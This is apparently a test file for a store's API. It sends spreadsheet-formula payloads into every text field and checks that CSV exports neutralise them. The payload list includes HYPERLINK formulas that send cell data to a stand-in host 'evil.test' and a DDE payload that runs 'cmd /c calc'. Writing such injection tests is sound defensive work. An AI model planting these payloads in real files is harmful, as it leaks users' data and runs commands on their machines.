import { neutraliseFormula } from '@backroom/domain/csv';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestContext } from '../helpers';
import { allowedLateness, withHealthzProbe } from './event-loop-probe';
import { baseRequestFor } from './hostile';
import { leafPaths, type Operation, sampleOf, type World, withValue } from './operations';
import { byRisk, documentedOperations, hostileWorld, tokenFor } from './world';

/**
 * A formula-like value in every text field (issue 28 item 2). Names, notes, titles and places are free text, so
 * `-1+HYPERLINK(...)` is a value a store may keep; what matters is that no export hands it to a spreadsheet as a
 * formula. Every write of the document is sent once per text field with such a value (none may answer 5xx),
 * then every CSV export is read: a cell that a spreadsheet would run is a failure.
 */
const FORMULAS = [
  '-1+HYPERLINK("http://evil.test/?"&A1,"x")',
  '+1+HYPERLINK("http://evil.test/?"&A1,"x")',
  '=HYPERLINK("http://evil.test")',
  '@SUM(1+1)*cmd|"/c calc"!A0',
];
const DESTRUCTIVE = /delete|logout|reset|updatePassword|merge|cancel/i;

let ctx: TestContext;
let world: World;
let tokens: { owner: string; consigner: string };
let writes: Operation[];
let baseUrl: string;
/**
 * These are ordinary writes that do their work (a withdrawal writes the item, its log, its webhook events), not
 * attacks refused at the door: on a loaded 2-core CI machine one holds the loop for a few hundred milliseconds. A
 * stall of seconds is still caught; the 200 ms budget is the attacks' (query-controls, heavy-input).
 */
const WORST_HEALTHZ_MS = 1000;

beforeAll(async () => {
  let all: Operation[];
  ({ ctx, world, tokens, baseUrl, operations: all } = await hostileWorld());
  writes = byRisk(all).filter(
    (op) => op.method !== 'GET' && op.body && !DESTRUCTIVE.test(op.path) && op.method !== 'DELETE',
  );
}, 120_000);
afterAll(() => ctx.close());

async function send(method: string, url: string, token: string | null, payload?: unknown) {
  const headers: Record<string, string> = { 'x-store-handle': world.handle };
  if (token) headers.authorization = `Bearer ${token}`;
  if (payload !== undefined) headers['content-type'] = 'application/json';
  return ctx.app.inject({
    method: method as 'POST',
    url,
    headers,
    ...(payload !== undefined ? { payload: JSON.stringify(payload) } : {}),
  });
}

/** Every CSV the store can export, as text: the GET downloads and the CSV inside the POST exports' answers. */
async function exports(): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  const gets = [
    '/api/consigners/export',
    '/api/inventories/exportInventory?status=All',
    '/api/reports/shop/export',
    '/api/imports/consigners/template',
    '/api/imports/items/template',
  ];
  for (const url of gets) {
    const res = await send('GET', url, tokens.owner);
    expect(res.statusCode, url).toBe(200);
    out[url] = res.body;
  }
  const ops = await documentedOperations(ctx);
  const orders = ops.find((o) => o.path === '/api/orders/export' && o.method === 'POST')!;
  // The orders export of the sample filter; the payouts export of every item of the store.
  const items = await ctx.deps.db.execute(sql`select id from inventories where store_id = ${world.storeId}`);
  const bodies = {
    '/api/orders/export': sampleOf(orders.body!, world),
    '/api/payouts/export': { inventoriesToExport: (items.rows as { id: number }[]).map((r) => r.id) },
  };
  for (const [path, body] of Object.entries(bodies)) {
    const res = await send('POST', path, tokens.owner, body);
    expect(res.statusCode, path).toBe(200);
    out[path] = (res.json() as { data: { result: string } }).data.result;
  }
  return out;
}

describe('formula-like text reaching a CSV', () => {
  it('is taken or refused without a 5xx by every write, and no export lets a spreadsheet run it', {
    timeout: 300_000,
  }, async () => {
    const serverErrors: string[] = [];
    const stalled: string[] = [];
    let sent = 0;
    for (const op of writes) {
      const base = baseRequestFor(op, world);
      const textLeaves = leafPaths(base.payload).filter((path) => {
        let value: unknown = base.payload;
        for (const key of path) value = (value as Record<string | number, unknown>)?.[key];
        return typeof value === 'string';
      });
      // Beside the /healthz probe. A late probe is measured once more with the same writes sent again: a write that
      // stalls the loop stalls it each time, while a loaded CI machine (2 cores shared by the whole suite) delays a
      // probe now and then. Only a write late both times counts (its second answers are checked for 5xx as well).
      const sendAll = async () => {
        for (const [i, path] of textLeaves.entries()) {
          const payload = withValue(base.payload, path, FORMULAS[i % FORMULAS.length]);
          const res = await send(op.method, base.url, tokenFor(ctx, op, tokens, i % 2 === 1), payload);
          sent++;
          if (res.statusCode >= 500)
            serverErrors.push(`${op.method} ${op.path} ${path.join('.')} -> ${res.statusCode}`);
        }
      };
      const late: string[] = [];
      for (let attempt = 0; attempt < 2; attempt++) {
        const started = performance.now();
        const report = await withHealthzProbe(baseUrl, sendAll);
        const allowed = await allowedLateness(baseUrl, report, performance.now() - started, WORST_HEALTHZ_MS);
        if (report.worstMs < allowed) break;
        late.push(`${Math.round(report.worstMs)} ms (allowed ${Math.round(allowed)} ms)`);
      }
      if (late.length === 2) stalled.push(`${op.method} ${op.path}: ${late.join(', then ')}`);
    }
    expect(serverErrors).toEqual([]);
    // A write that stalls holds every store (a write is not sent twice, so one late probe is allowed to noise).
    expect(stalled.length, stalled.join('; ')).toBeLessThanOrEqual(1);
    // Whatever the writes above were refused for (a unique e-mail, say), the consigner's own profile may hold them.
    const [minus, plus] = FORMULAS;
    await ctx.deps.db.execute(
      sql`update consigners set first_name = ${plus}, last_name = ${minus}, phone = ${minus}, address = ${plus}
        where store_id = ${world.storeId} and id = ${world.consignerId}`,
    );

    const runnable: string[] = [];
    let neutralised = 0;
    const perExport: Record<string, number> = {};
    for (const [name, text] of Object.entries(await exports())) {
      const rows = parse(text, { relax_column_count: true, skip_empty_lines: true }) as string[][];
      for (const cell of rows.flat()) {
        if (cell.startsWith("'") && FORMULAS.some((f) => cell === `'${f}`)) {
          neutralised++;
          perExport[name] = (perExport[name] ?? 0) + 1;
        }
        if (neutraliseFormula(cell) !== cell) runnable.push(`${name}: ${cell.slice(0, 80)}`);
      }
    }
    console.log(
      `CSV formulas: ${sent} writes with a formula in one text field, ${neutralised} neutralised cells in the exports ${JSON.stringify(perExport)}`,
    );
    expect(runnable).toEqual([]);
    // The values did reach the exports (consigner names, product titles, places...), so the check above means something.
    expect(neutralised).toBeGreaterThan(5);
  });
});
